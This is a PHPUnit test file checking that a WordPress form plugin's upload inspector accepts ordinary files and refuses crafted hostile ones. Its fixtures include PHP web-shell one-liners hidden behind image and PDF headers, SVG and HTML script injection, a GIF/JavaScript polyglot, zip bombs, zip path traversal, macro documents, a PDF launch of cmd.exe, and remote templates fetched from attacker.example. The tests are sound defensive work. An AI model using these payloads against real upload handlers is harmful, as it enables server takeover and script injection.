<?php
/**
 * Which files are taken, and which are not.
 *
 * @package Brolga
 */

declare( strict_types=1 );

namespace Brolga\Tests\Integration\Uploads;

use Brolga\Forms\Fields\FileRules;
use Brolga\Forms\Source\BlockAttributes;
use Brolga\Forms\Uploads\FileFlaw;
use Brolga\Forms\Uploads\FileInspector;
use Brolga\Forms\Uploads\FileName;
use Brolga\Forms\Uploads\SentFile;
use Brolga\Tests\Support\Crafted;
use Brolga\Tests\TestCase;
use PHPUnit\Framework\Attributes\DataProvider;
use PHPUnit\Framework\Attributes\Group;

/**
 * FIELD-8 UPLOAD-2: real files, made here, each as an attacker would.
 */
#[Group( 'once' )]
final class FileInspectorTest extends TestCase {

	private const ALL = [ 'images', 'pdf', 'documents', 'spreadsheets', 'presentations', 'text' ];

	protected function tearDown(): void {
		Crafted::clear();
		parent::tearDown();
	}

	/**
	 * The rules of a field.
	 *
	 * @param list<string> $kinds     What it takes.
	 * @param int          $megabytes How big.
	 */
	private static function rules( array $kinds = self::ALL, int $megabytes = 1 ): FileRules {
		return FileRules::from(
			new BlockAttributes( [ 'accept' => $kinds, 'maxFiles' => 2, 'maxMegabytes' => $megabytes ] )
		);
	}

	/**
	 * What is wrong with a file.
	 *
	 * @param FileRules|null $rules Null: everything is taken that can be.
	 */
	private static function flaw( SentFile $file, ?FileRules $rules = null ): ?FileFlaw {
		return ( new FileInspector() )->flaw( $file, new FileName( $file ), $rules ?? self::rules() );
	}

	/**
	 * What people send.
	 *
	 * @return iterable<string, array{string, string}>
	 */
	public static function honest(): iterable {
		yield 'an image' => [ 'Garden.PNG', Crafted::png() ];
		yield 'a photograph' => [ 'photo.jpeg', Crafted::jpg() ];
		yield 'FIELD-8 a photograph as some browsers save it' => [ 'photo.jfif', Crafted::jpg() ];
		yield 'a moving image' => [ 'a.gif', Crafted::gif() ];
		yield 'a PDF' => [ 'Plan v1.2 final.pdf', Crafted::pdf() ];
		yield 'a PDF that speaks of scripts' => [
			'book.pdf',
			Crafted::pdf( str_repeat( '% ', 600 ) . "\n(How to write <script> tags)" ),
		];
		yield 'a text document' => [ 'cv.docx', Crafted::docx() ];
		yield 'FIELD-450 a text document with a link' => [
			'cv.docx',
			Crafted::docx( [
				'word/_rels/document.xml.rels' => '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="Normal.dotm"/></Relationships>',
			] ),
		];
		yield 'FIELD-450 a moving image with an empty end' => [ 'a.gif', Crafted::gif() . "\0\n" ];
		yield 'an OpenDocument text' => [ 'cv.odt', Crafted::odt() ];
		yield 'plain text' => [ 'notes.txt', "Hello\r\n\tJo\n" ];
		yield 'text of an older code page' => [ 'notes.txt', "Caf\xE9\n" ];
		yield 'a table' => [ 'plants.csv', "name;price\nMyrtle;12\n" ];
		yield 'a name of another alphabet' => [ 'חוזה שכירות.pdf', Crafted::pdf() ];
		yield 'no more than a megabyte' => [ 'a.txt', str_repeat( 'a', 1024 * 1024 ) ];
	}

	#[DataProvider( 'honest' )]
	public function test_what_people_send_is_taken( string $name, string $bytes ): void {
		self::assertNull( self::flaw( Crafted::sent( $name, $bytes ) ) );
	}

	/**
	 * What attackers send.
	 *
	 * @return iterable<string, array{string, string, FileFlaw}>
	 */
	public static function nasty(): iterable {
		$svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
		yield 'a double extension' => [ 'photo.php.jpg', Crafted::jpg(), FileFlaw::Name ];
		yield 'another double extension' => [ 'photo.pHtMl.png', Crafted::png(), FileFlaw::Name ];
		yield 'a double extension with a space' => [ 'photo.php .png', Crafted::png(), FileFlaw::Name ];
		yield 'a program' => [ 'shell.php', '<?php phpinfo();', FileFlaw::Name ];
		yield 'a program as an image' => [ 'shell.jpg', '<?php phpinfo();', FileFlaw::Content ];
		yield 'a hidden file' => [ '.htaccess', 'AddType x y', FileFlaw::Name ];
		yield 'a hidden image' => [ '.png', Crafted::png(), FileFlaw::Name ];
		yield 'SVG with a script' => [ 'logo.svg', $svg, FileFlaw::Name ];
		yield 'SVG as an image' => [ 'logo.png', $svg, FileFlaw::Content ];
		yield 'SVG as text' => [ 'logo.txt', $svg, FileFlaw::Content ];
		yield 'a page as text' => [ 'page.txt', "\xEF\xBB\xBF \n<b onmouseover=alert(1)>", FileFlaw::Content ];
		yield 'a script in text' => [ 'page.csv', "a;b\n<script>alert(1)</script>;2", FileFlaw::Content ];
		yield 'bytes as text' => [ 'page.txt', "MZ\x90\x00\x03", FileFlaw::Content ];
		yield 'an image with a program behind it' => [
			'a.jpg',
			Crafted::jpg() . '<?php system($_GET[0]);',
			FileFlaw::Content,
		];
		yield 'an image with a short program' => [ 'a.gif', Crafted::gif() . '<?=`$_GET[0]`?>', FileFlaw::Content ];
		yield 'an image with a page behind it' => [
			'a.png',
			Crafted::png() . '<HTML><body onload=alert(1)>',
			FileFlaw::Content,
		];
		yield 'an image with a phar behind it' => [ 'a.gif', Crafted::gif() . '__HALT_COMPILER();', FileFlaw::Content ];
		yield 'an image that is a ZIP file as well' => [
			'a.png',
			Crafted::png() . Crafted::zip( [ 'a' => 'b' ] ),
			FileFlaw::Content,
		];
		yield 'a program across two pieces' => [
			'a.png',
			Crafted::png() . str_repeat( 'x', 1048576 - strlen( Crafted::png() ) - 66 ) . '<?php ',
			FileFlaw::Content,
		];
		yield 'an image of another format' => [ 'a.png', Crafted::gif(), FileFlaw::Content ];
		yield 'a PDF with a program' => [ 'a.pdf', Crafted::pdf( '<?php system(1);' ), FileFlaw::Content ];
		yield 'a PDF that begins as a page' => [
			'a.pdf',
			"%PDF-1.4\n<html><script>alert(1)</script>" . Crafted::pdf(),
			FileFlaw::Content,
		];
		yield 'a PDF after something else' => [ 'a.pdf', "GIF89a\n" . Crafted::pdf(), FileFlaw::Content ];
		yield 'a ZIP file as a document' => [ 'a.docx', Crafted::zip( [ 'evil.exe' => 'MZ' ] ), FileFlaw::Content ];
		yield 'a document with macros' => [
			'a.docx',
			Crafted::docx( [ 'word/vbaProject.bin' => 'x' ] ),
			FileFlaw::Content,
		];
		yield 'an old document with macros' => [
			'a.doc',
			"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" . str_repeat( "\0", 600 ) . "_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0",
			FileFlaw::Content,
		];
		yield 'a document as a spreadsheet' => [ 'a.xlsx', Crafted::docx(), FileFlaw::Content ];
		yield 'a bomb: 300 MB of nothing in a few hundred bytes' => [
			'a.docx',
			self::docx_that_says( 'word/media/a.bin', [ 'size' => 314572800 ] ),
			FileFlaw::Content,
		];
		yield 'a bomb: a hundred times its size' => [
			'a.docx',
			Crafted::docx( [ 'word/media/a.bin' => str_repeat( "\0", 8388608 ) ] ),
			FileFlaw::Content,
		];
		yield 'a bomb: members that share their place' => [
			'a.docx',
			Crafted::zip(
				[ '[Content_Types].xml' => '<?xml?>', 'word/a' => 'aaaa', 'word/b' => 'bbbb' ],
				[ 'word/b' => [ 'offset' => 0 ] ]
			),
			FileFlaw::Content,
		];
		yield 'a member outside' => [ 'a.docx', Crafted::docx( [ '../../evil.txt' => 'x' ] ), FileFlaw::Content ];
		yield 'a list that lies about its place' => [
			'a.docx',
			'PK' . substr( Crafted::docx(), 2 ) . 'x',
			FileFlaw::Content,
		];
		yield 'FIELD-450 a moving image with more behind it' => [
			'a.gif',
			Crafted::gif() . '*/=1;alert(1)',
			FileFlaw::Content,
		];
		yield 'FIELD-450 a script that begins as an image' => [
			'a.gif',
			"GIF89a/*\x2a\x00\x00\x00\x00*/=alert(document.domain);;",
			FileFlaw::Content,
		];
		yield 'FIELD-450 an image with the shortest of tags' => [
			'a.png',
			Crafted::png() . '<? system($_GET[0]); ?>',
			FileFlaw::Content,
		];
		yield 'FIELD-450 a PDF with the shortest of tags' => [
			'a.pdf',
			Crafted::pdf( '<?=system($_GET[0])?>' ),
			FileFlaw::Content,
		];
		yield 'FIELD-450 a PDF that runs a program' => [
			'a.pdf',
			Crafted::pdf( '<</S/L#61unch/F(cmd.exe)>>' ),
			FileFlaw::Content,
		];
		$relation = static fn ( string $type ): string => '<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
			. $type . '" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>';
		yield 'FIELD-450 a document with a template elsewhere' => [
			'a.docx',
			Crafted::docx( [ 'word/_rels/settings.xml.rels' => $relation( 'attachedTemplate' ) ] ),
			FileFlaw::Content,
		];
		yield 'FIELD-450 a template elsewhere, in two bytes a letter' => [
			'a.docx',
			Crafted::docx( [
				'word/_rels/settings.xml.rels' => "\xFF\xFE"
					. implode( "\0", str_split( $relation( 'attachedTemplate' ) ) )
					. "\0",
			] ),
			FileFlaw::Content,
		];
		yield 'FIELD-450 a template elsewhere, behind a bracket and by numbers' => [
			'a.docx',
			Crafted::docx( [
				'word/_rels/settings.xml.rels' => str_replace(
					[ 'Id="r1"', 'attachedTemplate' ],
					[ 'Id="r>1"', 'attached&#x54;emplate' ],
					$relation( 'attachedTemplate' )
				),
			] ),
			FileFlaw::Content,
		];
		yield 'FIELD-450 an object elsewhere' => [
			'a.docx',
			Crafted::docx( [ 'word/_rels/document.xml.rels' => $relation( 'oleObject' ) ] ),
			FileFlaw::Content,
		];
		yield 'nothing' => [ 'a.png', '', FileFlaw::Empty ];
		yield 'too much' => [ 'a.txt', str_repeat( 'a', 1024 * 1024 + 1 ), FileFlaw::TooBig ];
		yield 'an archive' => [ 'a.zip', Crafted::zip( [ 'a' => 'b' ] ), FileFlaw::Kind ];
		yield 'no extension' => [ 'photo', Crafted::jpg(), FileFlaw::Kind ];
	}

	/**
	 * A document whose list says something else of a member.
	 *
	 * @param string             $name Of the member.
	 * @param array<string, int> $lie  What is said.
	 */
	private static function docx_that_says( string $name, array $lie ): string {
		return Crafted::zip(
			[ '[Content_Types].xml' => '<?xml?>', 'word/document.xml' => '<?xml?>', $name => 'x' ],
			[ $name => $lie ]
		);
	}

	#[DataProvider( 'nasty' )]
	public function test_what_attackers_send_is_refused_with_a_reason(
		string $name,
		string $bytes,
		FileFlaw $flaw
	): void {
		$file = Crafted::sent( $name, $bytes );
		self::assertSame( $flaw, self::flaw( $file ) );
		self::assertStringContainsString( '“', $flaw->message( $name, self::rules() ) );
	}

	/**
	 * FIELD-8: names are judged and shown, and are never a path.
	 */
	public function test_a_path_in_the_name_is_refused(): void {
		foreach ( [ '../../wp-config.png', 'C:\\evil.png', "a\0.png" ] as $name ) {
			self::assertSame( FileFlaw::Name, self::flaw( Crafted::sent( $name, Crafted::png() ) ), $name );
		}
		$file = Crafted::sent( 'evil.png', Crafted::png() );
		self::assertSame(
			FileFlaw::Name,
			self::flaw( new SentFile( 'evil.png', $file->path, UPLOAD_ERR_OK, '../evil.png' ) )
		);
	}

	/**
	 * FIELD-8: a name that only looks like another one is shown as it is.
	 */
	public function test_marks_that_turn_the_direction_are_taken_out(): void {
		$name = new FileName( new SentFile( "photo\u{202E}gnp.exe", '' ) );
		self::assertSame( 'photognp.exe', $name->text );
		self::assertFalse( $name->is_harmless );
		$name = new FileName( new SentFile( "WhatsApp \u{200E}Image.png", '' ) );
		self::assertSame( 'WhatsApp Image.png', $name->text );
		self::assertTrue( $name->is_harmless );
		$long = new FileName( new SentFile( str_repeat( 'ä', 300 ) . '.PNG', '' ) );
		self::assertSame( 'png', $long->extension );
		self::assertStringEndsWith( '….png', $long->text );
		self::assertLessThan( 200, mb_strlen( $long->text ) );
	}

	/**
	 * FIELD-8: what the owner did not ask for is refused, however honest.
	 */
	public function test_only_the_kinds_that_the_owner_chose_are_taken(): void {
		self::assertSame(
			FileFlaw::Kind,
			self::flaw( Crafted::sent( 'a.png', Crafted::png() ), self::rules( [ 'pdf' ] ) )
		);
		self::assertSame(
			FileFlaw::Kind,
			self::flaw( Crafted::sent( 'a.png', Crafted::png() ), self::rules( [ 'svg', 'php' ] ) )
		);
		self::assertNull( self::flaw( Crafted::sent( 'a.pdf', Crafted::pdf() ), self::rules( [ 'pdf' ] ) ) );
	}

	/**
	 * UPLOAD-6: what PHP itself refuses.
	 */
	public function test_php_errors_are_told(): void {
		self::assertSame( FileFlaw::TooBig, self::flaw( new SentFile( 'a.png', '', UPLOAD_ERR_INI_SIZE ) ) );
		self::assertSame( FileFlaw::TooBig, self::flaw( new SentFile( 'a.png', '', UPLOAD_ERR_FORM_SIZE ) ) );
		self::assertSame( FileFlaw::Incomplete, self::flaw( new SentFile( 'a.png', '', UPLOAD_ERR_PARTIAL ) ) );
	}

	/**
	 * UPLOAD-2: an owner can't allow more than the server takes.
	 */
	public function test_the_server_bounds_the_owner(): void {
		add_filter( 'upload_size_limit', static fn (): int => 3 * 1024 * 1024 );
		$rules = self::rules( [ 'pdf', 'images' ], 50 );
		self::assertSame( 3 * 1024 * 1024, $rules->max_bytes );
		self::assertSame(
			'Up to 2 files of 3 MB each: images, PDF.',
			str_replace( "\u{A0}", ' ', self::rules( [ 'images', 'pdf' ], 50 )->sentence() )
		);
		self::assertSame( [ '.pdf' ], self::rules( [ 'pdf' ] )->extensions() );
	}
}
